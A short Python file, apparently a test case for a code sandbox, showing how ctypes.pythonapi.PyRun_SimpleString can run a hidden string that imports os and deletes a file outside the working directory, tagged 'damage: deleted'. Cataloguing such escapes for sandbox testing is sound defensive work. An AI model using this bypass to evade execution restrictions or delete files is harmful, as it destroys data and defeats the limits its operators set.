# The interpreter's own functions run code.
# damage: deleted
# needs: ctypes
import ctypes

ctypes.pythonapi.PyRun_SimpleString(b"import os; os.unlink('../outside/victim.txt')")
